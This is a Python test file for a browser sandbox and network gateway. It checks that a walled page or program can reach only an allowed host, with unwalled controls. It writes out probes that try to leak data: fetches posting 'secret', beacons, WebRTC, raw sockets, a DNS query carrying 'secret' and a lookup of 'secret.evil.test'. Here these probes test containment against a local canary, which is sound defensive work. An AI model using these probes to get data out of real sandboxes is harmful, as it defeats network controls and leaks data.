"""What a page inside can reach: the host that was allowed, and nothing else.

Every attempt has two controls: the same page in a browser without walls does reach the canary, and the walled
one does reach the allowed host.
"""

import asyncio
import contextlib
import json
import os
import sys
from collections.abc import AsyncIterator, Sequence
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import pytest
from harness.clearance import Refusal, Request
from harness.gateway.upstreams.asgi import AsgiUpstream
from harness.gateway.upstreams.internet import InternetUpstream
from harness.sandbox.base import SandboxOptions
from harness.sandbox.bubblewrap import BubblewrapSandbox
from harness.sandbox.chromium import find_chromium
from harness.sandbox.confine import Confinement, find_tools, real_user
from harness.sandbox.rundir import RunFolder
from playwright.async_api import Error, Page, async_playwright
from tests.containment.canary import Canary, canary, own_address
from tests.gateway.support import Receive, Scope, Send, Setup, opened

ATTEMPTS = """async ([hosts, port]) => {
  const soon = (promise) => Promise.race([promise, new Promise(yes => setTimeout(() => yes('late'), 2500))]);
  const outcome = (promise) => soon(promise.then(() => 'reached', () => 'nothing'));
  const loaded = (element, source, attribute = 'src') => outcome(new Promise((yes, no) => {
    element.onload = yes; element.onerror = no; element[attribute] = source; document.body.append(element);
  }));
  const tries = {};
  for (const host of hosts) {
    const at = `${host}:${port}`, http = `http://${at}`;
    tries[`fetch ${host}`] = outcome(fetch(`${http}/fetch`, {mode: 'no-cors'}));
    tries[`post ${host}`] = outcome(fetch(`${http}/post`, {method: 'POST', mode: 'no-cors', body: 'secret'}));
    tries[`img ${host}`] = outcome(new Promise((yes, no) => {
      const image = new Image(); image.onload = yes; image.onerror = no; image.src = `${http}/img`; }));
    tries[`script ${host}`] = loaded(document.createElement('script'), `${http}/script`);
    tries[`style ${host}`] = loaded(Object.assign(document.createElement('link'), {rel: 'stylesheet'}),
      `${http}/style`, 'href');
    tries[`frame ${host}`] = soon(new Promise(yes => { const frame = document.createElement('iframe');
      frame.onload = () => yes('loaded'); frame.src = `${http}/frame`; document.body.append(frame); }));
    tries[`socket ${host}`] = outcome(new Promise((yes, no) => {
      const socket = new WebSocket(`ws://${at}/socket`); socket.onopen = yes; socket.onerror = no; }));
    tries[`events ${host}`] = outcome(new Promise((yes, no) => {
      const events = new EventSource(`${http}/events`); events.onopen = yes; events.onerror = no; }));
    tries[`secure ${host}`] = outcome(fetch(`https://${at}/secure`, {mode: 'no-cors'}));
    navigator.sendBeacon(`${http}/beacon`, 'secret');
    tries[`webrtc ${host}`] = soon((async () => {
      const peer = new RTCPeerConnection({iceServers: [{urls: `stun:${at}`},
        {urls: `turn:${at}?transport=tcp`, username: 'u', credential: 'c'}]});
      peer.createDataChannel('x');
      await peer.setLocalDescription(await peer.createOffer());
      await new Promise(yes => { peer.onicegatheringstatechange =
        () => peer.iceGatheringState === 'complete' && yes(); });
      return 'gathered';
    })());
    if (window.WebTransport)
      tries[`transport ${host}`] = outcome(new WebTransport(`https://${at}/transport`).ready);
  }
  const outcomes = {};
  for (const [name, promise] of Object.entries(tries)) outcomes[name] = await promise;
  return outcomes;
}"""

RAW = """
import json, socket, sys
hosts, port = json.loads(sys.argv[1])
reached = []
def attempt(name, work):
    try:
        work()
        reached.append(name)
    except OSError:
        pass
for host in hosts:
    attempt(f"tcp {host}", lambda: socket.create_connection((host, port), 2).close())
    def send(to):
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
            s.sendto(b"raw", (host, to))
    attempt(f"udp {host}", lambda: send(port))
query = b"\\x12\\x34\\x01\\x00\\x00\\x01" + bytes(6) + b"\\x06secret\\x04test\\x00\\x00\\x01\\x00\\x01"
def name():
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
        s.sendto(query, ("127.0.0.1", 53))
attempt("dns", name)
attempt("getaddrinfo", lambda: socket.getaddrinfo("secret.evil.test", 80))
print(json.dumps(reached))
"""


@dataclass
class Walled:
    """A page of the allowed host, in a sandbox behind the real gateway."""

    page: Page
    setup: Setup
    resolved: list[str]


async def site(scope: Scope, _receive: Receive, send: Send) -> None:
    if scope["type"] != "http":
        raise NotImplementedError
    headers = [(b"content-type", b"text/html"), (b"access-control-allow-origin", b"*")]
    await send({"type": "http.response.start", "status": 200, "headers": headers})
    await send({"type": "http.response.body", "body": b"<!doctype html><title>allowed</title><body>"})


def only_allowed(request: Request) -> Refusal | None:
    host = request.url.split("/")[2]
    return None if host == "allowed.test" else Refusal(rule="only allowed.test", reason=f"not {host}")


@contextlib.asynccontextmanager
async def walled() -> AsyncIterator[Walled]:
    """Open the real sandbox on the real gateway; the gateway could dial this machine, were it allowed to."""
    resolved: list[str] = []

    async def resolver(name: str) -> Sequence[Any]:
        resolved.append(name)
        raise OSError(f"{name} is not known")

    with RunFolder.create() as run:
        internet = InternetUpstream(may_dial=lambda _address: True, resolver=resolver)
        async with opened(run.path, {"allowed.test": AsgiUpstream(site)}, internet) as setup:
            setup.keeper.rule = setup.keeper.early = only_allowed
            sandbox = BubblewrapSandbox(SandboxOptions(downloads=run.path / "kept", runtime=run.path))
            await sandbox.open(setup.socket, setup.gateway.spki)
            try:
                assert sandbox._browser
                yield Walled(await sandbox._browser.new_page(), setup, resolved)
            finally:
                await sandbox.close()


@contextlib.asynccontextmanager
async def unwalled() -> AsyncIterator[Page]:
    """Open a plain browser on this machine's own network, where `other.test` is this machine."""
    async with async_playwright() as playwright:
        browser = await playwright.chromium.launch(
            executable_path=find_chromium(), args=["--host-resolver-rules=MAP other.test 127.0.0.1"]
        )
        yield await browser.new_page()
        await browser.close()


def targets() -> list[str]:
    return ["127.0.0.1", "localhost", own_address(), "other.test"]


async def navigations(page: Page, bird: Canary) -> None:
    for host in targets():
        with contextlib.suppress(Error):
            await page.goto(f"http://{host}:{bird.port}/navigated")


async def test_without_walls_the_same_page_reaches_the_canary() -> None:
    async with canary() as bird, unwalled() as page:
        await page.goto(f"http://127.0.0.1:{bird.port}/page")
        outcomes = await page.evaluate(ATTEMPTS, [["127.0.0.1", "other.test"], bird.port])
        assert outcomes["fetch 127.0.0.1"] == outcomes["fetch other.test"] == "reached"
        await navigations(page, bird)
        for path in ("fetch", "post", "img", "script", "style", "frame", "socket", "events", "beacon"):
            await bird.sees(f"/{path} HTTP/1.1")
        await bird.sees("UDP ")
        await bird.sees("/navigated HTTP/1.1")


async def test_a_page_reaches_the_allowed_host_and_nothing_else() -> None:
    async with canary() as bird, walled() as place:
        page, keeper = place.page, place.setup.keeper
        for scheme in ("http", "https"):
            await page.goto(f"{scheme}://allowed.test/")
            assert await page.title() == "allowed"
            assert await page.evaluate("fetch('/again').then(answer => answer.status)") == 200
            outcomes = await page.evaluate(ATTEMPTS, [targets(), bird.port])
            assert outcomes
            assert not {name: one for name, one in outcomes.items() if "socket" in name and one == "reached"}
        await navigations(page, bird)
        assert await bird.touched() == []
        assert place.resolved == []
        reached = {request.url.split("/")[2] for request in keeper.asked if only_allowed(request) is None}
        refused = {request.url.split("/")[2] for request in keeper.heads} - reached
        assert reached == {"allowed.test"}
        assert {f"{host}:{bird.port}" for host in targets()} <= refused
        assert {exchange.status for exchange in await keeper.exchanges(4)} == {200}


async def test_even_a_program_inside_reaches_nothing() -> None:
    python = Path("/usr/bin/python3")
    if not python.exists():
        pytest.skip("needs a python3 in /usr/bin")
    async with canary() as bird:
        argument = [["127.0.0.1", own_address()], bird.port]
        with RunFolder.create() as run:
            user = real_user(run.path) if os.geteuid() == 0 else None
            walls = Confinement(run.path, find_tools(), user)
            walls.build()
            code, out, err = await walls.probe([str(python), "-I", "-c", RAW, json.dumps(argument)], 60)
        assert code == 0, err
        assert not [one for one in json.loads(out) if one.startswith(("tcp", "getaddrinfo"))]
        assert await bird.touched() == []


async def test_outside_the_same_program_reaches_the_canary() -> None:
    async with canary() as bird:
        argument = json.dumps([["127.0.0.1", own_address()], bird.port])
        process = await asyncio.create_subprocess_exec(
            *(sys.executable, "-I", "-c", RAW, argument), stdout=asyncio.subprocess.PIPE
        )
        out, _ = await process.communicate()
        assert {"tcp 127.0.0.1", "udp 127.0.0.1"} <= set(json.loads(out))
        await bird.sees("TCP")
        await bird.sees("UDP b'raw'")
        if bird.dns:
            await bird.sees("secret")
